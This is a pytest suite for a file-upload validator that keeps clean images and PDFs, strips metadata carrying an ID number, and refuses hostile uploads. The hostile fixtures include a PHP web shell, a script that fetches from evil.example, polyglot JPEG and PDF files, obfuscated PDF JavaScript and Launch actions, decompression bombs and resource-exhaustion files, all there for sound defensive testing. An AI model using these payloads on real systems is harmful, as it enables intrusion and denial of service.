"""A file is what is in it: good ones are kept, hostile ones are refused in both languages."""

import warnings
import zlib
from io import BytesIO
from time import process_time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from api.applications.rules.files import BROKEN, MOST_BYTES, FileContent, judge
from api.refusals import Refusal, RefusalCode
from tests.files import (
    a_bomb,
    a_pdf,
    a_photo_lying_down,
    a_picture,
    a_png_with_words,
    an_archive,
    an_object_stream,
    with_chunks,
    with_scans,
    with_segments,
)

NIK = b"7402015501900001"
SCRIPT = b"<script>fetch('//evil.example')</script>"
JAVASCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
GOOD = {
    "jpeg": (a_picture(), "image/jpeg"),
    "grey jpeg": (a_picture(mode="L"), "image/jpeg"),
    "cmyk jpeg": (a_picture(mode="CMYK"), "image/jpeg"),
    "png": (a_picture("PNG"), "image/png"),
    "clear png": (a_picture("PNG", "RGBA"), "image/png"),
    "png of a palette": (a_picture("PNG", "P"), "image/png"),
    "scan of two colours": (a_picture("PNG", "1"), "image/png"),
    "scan of 16 bits": (a_picture("PNG", "I;16"), "image/png"),
    "webp": (a_picture("WEBP"), "image/jpeg"),
    "clear webp": (a_picture("WEBP", "RGBA", lossless=True), "image/jpeg"),
    "pdf": (a_pdf(), "application/pdf"),
    "pdf with spaces behind": (a_pdf() + b"\r\n \n", "application/pdf"),
    "pdf with compressed structure": (a_pdf(an_object_stream(b"4 0 << /Type /Annot >>")), "application/pdf"),
}
HOSTILE = {
    "empty": b"",
    "too large": bytes(MOST_BYTES + 1),
    "html": b"<!DOCTYPE html><html><body onload=alert(1)></body></html>",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "shell script": b"#!/bin/sh\nid\n",
    "program": b"MZ\x90\x00" + bytes(200),
    "php": b"<?php system($_GET['c']); ?>",
    "archive": an_archive(),
    "gif": a_picture("GIF", "P"),
    "bmp": a_picture("BMP"),
    "tiff": a_picture("TIFF"),
    "text": b"KTP saya",
    "only a jpeg's head": b"\xff\xd8\xff\xe0",
    "only a png's head": b"\x89PNG\r\n\x1a\n",
    "jpeg cut in half": a_picture()[:-800],
    "png cut in half": a_picture("PNG")[:-200],
    "webp cut in half": a_picture("WEBP")[:-200],
    "pdf cut in half": a_pdf()[:-60],
    "pdf without its end": a_pdf().replace(b"%%EOF", b""),
    "pdf whose table lies beyond its end": a_pdf().replace(b"startxref\n", b"startxref\n99"),
    "pdf that begins later": b"\n" + a_pdf(),
    "bomb": a_bomb(),
    "jpeg and page": a_picture() + SCRIPT,
    "png and page": a_png_with_words("<SCRIPT >alert(1)</SCRIPT>"),
    "jpeg and archive": a_picture() + an_archive(),
    "jpeg and pdf": a_picture() + a_pdf(),
    "jpeg and php": a_picture(comment=b"<?php system(1); ?>"),
    "pdf and page": a_pdf(SCRIPT),
    "pdf and page behind": a_pdf() + SCRIPT,
    "pdf and archive": a_pdf() + an_archive(),
    "pdf with a script": a_pdf(catalog=b"/OpenAction " + JAVASCRIPT),
    "pdf with a script under another name": a_pdf(catalog=b"/OpenAction << /S /J#61vaScript >>"),
    "pdf with a compressed script": a_pdf(an_object_stream(b"4 0 " + JAVASCRIPT)),
    "pdf with a compressed script under another name": a_pdf(
        an_object_stream(b"4 0 << /S /#4Aava#53cript >>").replace(b"/ObjStm", b"/Obj#53tm")
    ),
    "pdf that starts a program": a_pdf(catalog=b"/OpenAction << /S /Launch >>"),
    "pdf that grows beyond measure": a_pdf(an_object_stream(bytes(40 * 1024 * 1024))),
}


@pytest.mark.parametrize("name", GOOD)
def test_a_good_file_is_kept(name: str) -> None:
    content, kind = GOOD[name]
    kept = judge(content)
    assert isinstance(kept, FileContent), kept
    assert kept.content_type == kind
    if kind == "application/pdf":
        assert kept.content == content


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_refused_in_both_languages(name: str) -> None:
    refusal = judge(HOSTILE[name])
    assert isinstance(refusal, Refusal)
    assert refusal.code is RefusalCode.DOCUMENT_REFUSED
    assert refusal.sentence("ID") != refusal.sentence("EN")


def test_a_photo_stands_upright_and_tells_nothing_but_its_pixels() -> None:
    kept = judge(a_photo_lying_down())
    assert isinstance(kept, FileContent)
    with Image.open(BytesIO(kept.content)) as picture:
        assert picture.size == (200, 320)
        assert not picture.getexif()
        assert picture.info.keys() <= {"jfif", "jfif_version", "jfif_unit", "jfif_density"}
    assert NIK not in kept.content


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "WEBP"])
def test_a_colour_profile_and_words_do_not_come_along(kind: str) -> None:
    content = a_picture(
        kind, icc_profile=b"profile " + NIK, exif=b"Exif\0\0MM\0*" + NIK, xmp=b"<x>" + NIK + b"</x>"
    )
    kept = judge(content)
    assert isinstance(kept, FileContent)
    assert NIK not in kept.content


def test_a_large_photo_is_made_smaller() -> None:
    kept = judge(a_picture(size=(4_400, 2_200)))
    assert isinstance(kept, FileContent)
    with Image.open(BytesIO(kept.content)) as picture:
        assert picture.size == (4_096, 2_048)


def test_a_picture_with_many_frames_keeps_the_first() -> None:
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue")]
    file = BytesIO()
    frames[0].save(file, "WEBP", save_all=True, append_images=frames[1:], lossless=True)
    kept = judge(file.getvalue())
    assert isinstance(kept, FileContent)
    with Image.open(BytesIO(kept.content)) as picture:
        assert getattr(picture, "n_frames", 1) == 1
        red, _, blue = picture.convert("RGB").getpixel((4, 4))  # type: ignore[misc]
        assert red > 200 > 50 > blue


@pytest.mark.parametrize(
    "name", ["jpeg", "png", "webp", "pdf", "scan of 16 bits", "pdf with compressed structure"]
)
@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_bytes_that_were_changed_are_kept_or_refused_and_never_break_anything(
    name: str, data: st.DataObject
) -> None:
    content = bytearray(GOOD[name][0])
    for _ in range(data.draw(st.integers(1, 8))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    assert isinstance(judge(bytes(content[: data.draw(st.integers(0, len(content)))])), FileContent | Refusal)


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_notes_that_are_broken_say_nothing_in_the_log(kind: str) -> None:
    """Leave the notes in what Pillow opens (_without_notes) to see this fail."""
    broken = (
        b"Exif\0\0II*\0\x08\0\0\0\xff\x7f" + b"\x12\x01\x03\0\x01\0\0\0\x06\0\0\0" + b"\x0f\x01\x02\0\xff\xff\0\0"
    )
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        kept = judge(a_picture(kind, exif=broken))
    assert isinstance(kept, FileContent), kept


PROGRESSIVE = a_picture(mode="L", size=(6_000, 6_000), progressive=True)
COSTLY = {  # by what would take seconds or minutes if it were done
    "pdf full of streams": a_pdf(b"<</Type/ObjStm>>stream\n\x78\x9c\x03\x00\x00\x00\x00\x01" * 100_000),
    "pdf full of names of streams": a_pdf(b"/ObjStm" * 700_000),
    "pdf of escapes": a_pdf(an_object_stream(b"#41" * 10_000_000)),
    "jpeg of scans": with_scans(PROGRESSIVE, 60),
    "jpeg of segments": with_segments(a_picture(), b"\xff\xeb\0\2", 1_200_000),
    "jpeg of filling": with_segments(a_picture(), b"\xff", 5_000_000),
    "png of chunks": with_chunks(a_picture("PNG"), b"teSt", b"", 400_000),
    "png of profiles": with_chunks(
        a_picture("PNG"), b"iCCP", b"a\0\0" + zlib.compress(bytes(1_000_000), 9), 2_000
    ),
}


@pytest.mark.parametrize("name", COSTLY)
def test_a_file_that_would_cost_too_much_is_refused_at_once(name: str) -> None:
    """Delete the bound on it, in files.py or structure.py, to see this fail by its time."""
    began = process_time()
    assert judge(COSTLY[name]) == BROKEN
    assert process_time() - began < 2


def test_a_file_of_many_honest_parts_is_kept() -> None:
    png = a_picture("PNG")
    for content in (
        with_scans(a_picture(progressive=True), 20),
        with_segments(a_picture(), b"\xff\xeb\0\2", 400),
        with_chunks(png, b"tEXt", b"a\0b", 1_500),
        a_pdf(an_object_stream(b"4 0 << /Type /Annot >>") * 1_000),
    ):
        assert isinstance(judge(content), FileContent)
